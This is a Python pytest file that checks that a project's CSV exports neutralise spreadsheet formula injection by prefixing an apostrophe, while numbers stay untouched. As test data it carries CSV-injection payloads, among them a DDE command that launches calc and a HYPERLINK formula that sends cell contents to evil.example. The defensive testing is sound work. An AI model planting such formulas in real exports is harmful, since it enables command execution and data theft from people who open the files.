"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), and keep numbers numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from marsad import export
from marsad.export.csvsafe import safe_cell, safe_dict_writer

CORPUS = Path(__file__).resolve().parents[1] / "store" / "fixtures" / "dedup_corpus.json"
TRIGGERS = ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-", "+", "@"]


@pytest.mark.parametrize("value", TRIGGERS)
def test_formula_cells_get_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-33.5", "+7", "-1e-3", "12", "0.5", "", "Mosul", "a=b", " =1", "'=1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, 3, -2.5, True])
def test_non_strings_are_left_alone(value):
    assert safe_cell(value) is value


def test_the_writer_keeps_a_cell_with_a_carriage_return_on_its_row():
    out = io.StringIO()
    writer = safe_dict_writer(out, ["a", "b"])
    writer.writeheader()
    writer.writerows([{"a": "x\ry", "b": "=1"}, {"a": "\r=2", "b": "-4.5"}])
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [{"a": "x\ny", "b": "'=1"}, {"a": "'\n=2", "b": "-4.5"}]


def test_acled_csv_export_neutralises_stored_formulas():
    doc = json.loads(CORPUS.read_text(encoding="utf-8"))["documents"][0]
    ev = doc["events"][0]
    ev["evidence"]["text"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ev["actors"][0].update(id="NOT_IN_THE_DICTIONARY", name="@SUM(1+1)*cmd|' /C calc'!A0")
    ev["location"]["name"] = "+Mosul"
    ev["location"]["lon"] = -3.25
    doc["publication"] = "-2+3"
    out = io.StringIO()
    export.write("acled-csv", [doc], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    row = next(r for r in rows if "HYPERLINK" in r["notes"])
    assert row["notes"].startswith("'=HYPERLINK")
    assert row["actor1"].startswith("'@SUM") and row["location"] == "'+Mosul"
    assert row["source"].startswith("'-2+3") and row["longitude"] == "-3.2500"  # a number stays a number
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
